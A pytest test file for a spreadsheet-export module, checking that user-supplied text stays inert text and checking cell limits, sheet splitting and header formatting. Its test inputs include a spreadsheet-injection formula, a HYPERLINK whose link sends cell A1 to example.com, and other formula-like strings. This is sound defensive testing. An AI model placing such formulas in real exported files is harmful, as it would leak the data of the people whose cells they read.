"""Texts of other people in a spreadsheet."""

import io

import openpyxl
import pytest
from usercom import spreadsheet

TEXTS = [
    '{=HYPERLINK("https://example.com?"&A1,"Jan")}',
    "=1+1",
    "@SUM(A1)",
    "+48600100200",
    "-1",
    "007",
    "https://example.com",
    "mailto:jan@example.org",
    "Jan Żółć",
]


def read(titles, rows, **options):
    file = io.BytesIO()
    spreadsheet.write_table(file, titles, rows, **options)
    return openpyxl.load_workbook(file)


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_stays_a_text(text):
    sheet = read([text], [[text]]).active
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_numbers_stay_numbers_and_an_empty_text_leaves_its_cell_empty():
    sheet = read(["Name", "Id"], [["", 7], ["Jan", 8]]).active
    assert list(sheet.values) == [("Name", "Id"), (None, 7), ("Jan", 8)]


def test_a_text_too_long_for_a_cell_is_cut_and_what_follows_is_there():
    sheet = read(["Name", "Note"], [["x" * 40_000, "y"]]).active
    assert (len(sheet["A2"].value), sheet["B2"].value) == (32_767, "y")


def test_more_rows_than_a_sheet_has_go_on_in_another(monkeypatch):
    monkeypatch.setattr(spreadsheet, "ROWS_OF_SHEET", 2)
    book = read(["Name"], [[str(number)] for number in range(5)])
    rows = [[row[0] for row in sheet.values] for sheet in book]
    assert rows == [["Name", "0", "1"], ["Name", "2", "3"], ["Name", "4"]]
    assert [sheet.auto_filter.ref for sheet in book] == ["A1:A3", "A1:A3", "A1:A2"]
    assert book.sheetnames == ["Sheet", "Sheet 2", "Sheet 3"]


def test_a_sheet_has_a_title_and_its_header_stays_in_sight_and_filters():
    sheet = read(["Name", "Id"], [["Jan", 7]], name="People: all/some").active
    assert sheet.title == "People  all some"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B2")
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold


def test_an_empty_table_has_its_header():
    sheet = read(["Name"], []).active
    assert list(sheet.values) == [("Name",)]
